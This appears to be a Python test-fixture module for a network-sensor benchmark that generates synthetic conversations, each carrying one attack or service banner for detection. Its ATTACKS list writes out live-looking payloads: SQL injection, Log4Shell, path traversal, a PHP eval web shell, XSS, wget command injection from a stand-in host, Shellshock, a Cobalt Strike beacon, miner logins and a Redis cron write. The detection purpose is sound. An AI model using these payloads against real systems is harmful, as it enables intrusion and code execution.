"""Attacks and banners that a sensor should find, one in each conversation. Runs in the traffic generator."""

from __future__ import annotations

from random import Random
from typing import NamedTuple

from sensor.bench.traffic.conversations import Conversation, Notable, TcpConversation
from sensor.bench.traffic.hosts import desk, remote, server
from sensor.bench.traffic.messages import http_request, http_response


class Exchange(NamedTuple):
    """A request and its response on a port, with the notable text in one of them."""

    notable: Notable
    port: int
    request: bytes
    response: bytes
    outward: bool = False
    """True if the client is a workstation of the office; otherwise the server belongs to the office."""


SCRIPT = "User-Agent: python-requests/2.31.0"
TROJAN = "User-Agent: Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)"
HTML = "Content-Type: text/html"
DONE = http_response("200 OK", HTML, body=b"<p>Thank you.</p>\n")
HOME = http_request("GET /", "www.example", "User-Agent: curl/8.5.0", "Accept: */*")
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"

ATTACKS = (
    Exchange(
        Notable("SQL injection, union", "threat", b"union%20select"),
        80,
        http_request("GET /item.php?id=1%20union%20select%201,user(),3--%20-", "shop.example", SCRIPT),
        DONE,
    ),
    Exchange(
        Notable("SQL injection, blind", "threat", b"if(ascii(substr(database(),1,1))>109,sleep(1),0)"),
        80,
        http_request(
            "GET /item.php?id=1'%20and%20if(ascii(substr(database(),1,1))>109,sleep(1),0)--%20-",
            "shop.example",
            SCRIPT,
        ),
        DONE,
    ),
    Exchange(
        Notable("Log4Shell", "threat", b"${jndi:ldap://"),
        8080,
        http_request("GET /login", "intranet.example", "User-Agent: ${jndi:ldap://203.0.113.66:1389/a}"),
        http_response("404 Not Found", HTML, body=b"<h1>Not here</h1>\n"),
    ),
    Exchange(
        Notable("Path traversal", "threat", b"../../../../../../etc/passwd"),
        80,
        http_request("GET /download.php?file=../../../../../../etc/passwd", "files.example", SCRIPT),
        http_response("403 Forbidden", HTML, body=b"<h1>Not yours</h1>\n"),
    ),
    Exchange(
        Notable("Web shell", "threat", b"@eval(base64_decode($_POST[z0]))"),
        80,
        http_request(
            "POST /upload/img.php",
            "shop.example",
            SCRIPT,
            "Content-Type: application/x-www-form-urlencoded",
            body="cmd=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw==",
        ),
        DONE,
    ),
    Exchange(
        Notable("Cross-site scripting", "threat", b"<script>alert(document.cookie)</script>"),
        80,
        http_request("GET /search?q=<script>alert(document.cookie)</script>", "shop.example", SCRIPT),
        DONE,
    ),
    Exchange(
        Notable("Command injection", "threat", b";wget+http://203.0.113.66/x.sh"),
        80,
        http_request(
            "GET /cgi-bin/ping?host=127.0.0.1;wget+http://203.0.113.66/x.sh", "gate.example", SCRIPT
        ),
        DONE,
    ),
    Exchange(
        Notable("Shellshock", "threat", b"() { :;}; /bin/bash"),
        80,
        http_request(
            "GET /cgi-bin/status", "gate.example", "User-Agent: () { :;}; /bin/bash -c 'id > /tmp/x'"
        ),
        DONE,
    ),
    Exchange(
        Notable("Cobalt Strike beacon", "threat", b"POST /submit.php?id=48213"),
        80,
        http_request(
            "POST /submit.php?id=48213",
            "cdn.example.net",
            "Accept: */*",
            "Content-Type: application/octet-stream",
            TROJAN,
            body="\0\0\0\x20\x1c\x05\x0e{8t",
        ),
        http_response("200 OK", "Content-Type: application/octet-stream"),
        outward=True,
    ),
    Exchange(
        Notable("Mining, Stratum", "threat", b'"method":"mining.subscribe"'),
        3333,
        b'{"id":1,"method":"mining.subscribe","params":["cgminer/4.10.0"]}\n',
        b'{"id":1,"result":[[["mining.notify","ae68"]],"08000002",4],"error":null}\n',
        outward=True,
    ),
    Exchange(
        Notable("Mining, Monero", "threat", b'"method":"login","params":{"login":"'),
        5555,
        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"' + WALLET.encode() + b'","pass":"x",'
        b'"agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/9.3.0","algo":["rx/0","cn/r"]}}\n',
        b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"d1f0","status":"OK"}}\n',
        outward=True,
    ),
    Exchange(
        Notable(
            "Redis, cron job written",
            "threat",
            b"CONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/",
        ),
        6379,
        b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n",
        b"+OK\r\n",
    ),
)

BANNERS = (
    Exchange(
        Notable("OpenSSH", "midware", b"SSH-2.0-OpenSSH_9.2p1"),
        22,
        b"",
        b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n",
    ),
    Exchange(Notable("vsftpd", "midware", b"220 (vsFTPd 3.0.3)"), 21, b"", b"220 (vsFTPd 3.0.3)\r\n"),
    Exchange(
        Notable("Postfix", "midware", b"ESMTP Postfix"),
        25,
        b"",
        b"220 mail.example ESMTP Postfix (Debian/GNU)\r\n",
    ),
    Exchange(
        Notable("MySQL", "midware", b"\n8.0.36\0"),
        3306,
        b"",
        b"\x4a\0\0\0\n8.0.36\0\x1c\0\0\0:K\x11\x22%w\x01\x7f\0\xff\xff\xff\x02\0\xff\xdf\x15"
        + bytes(10)
        + b"q\x0b1\x1bp:\x06&q\x1eSN\0caching_sha2_password\0",
    ),
    Exchange(
        Notable("nginx", "midware", b"Server: nginx/1.22.1"),
        80,
        HOME,
        http_response("200 OK", "Server: nginx/1.22.1", HTML, body=b"<h1>Welcome</h1>\n"),
    ),
    Exchange(
        Notable("Apache", "midware", b"Server: Apache/2.4.57"),
        80,
        HOME,
        http_response("200 OK", "Server: Apache/2.4.57 (Debian)", HTML, body=b"<h1>It works!</h1>\n"),
    ),
    Exchange(
        Notable("Hikvision camera", "device", b"Server: App-webs/"),
        80,
        HOME,
        http_response(
            "401 Unauthorized", "Server: App-webs/", 'WWW-Authenticate: Basic realm="DS-2CD2142FWD-I"'
        ),
    ),
    Exchange(
        Notable("MikroTik router", "device", b"(MikroTik 6.49.10)"),
        21,
        b"",
        b"220 R1 FTP server (MikroTik 6.49.10) ready\r\n",
    ),
)


def exchange(rng: Random, start_us: int, what: Exchange) -> Conversation:
    """Build the conversation of an attack or banner."""
    ends = (desk(rng), remote(rng)) if what.outward else (remote(rng), server(rng.randint(80, 99)))
    talk = TcpConversation(rng, start_us, *ends, what.port)
    talk.send(talk.client, what.request, what.notable)
    talk.send(talk.server, what.response, what.notable)
    talk.close()
    return talk
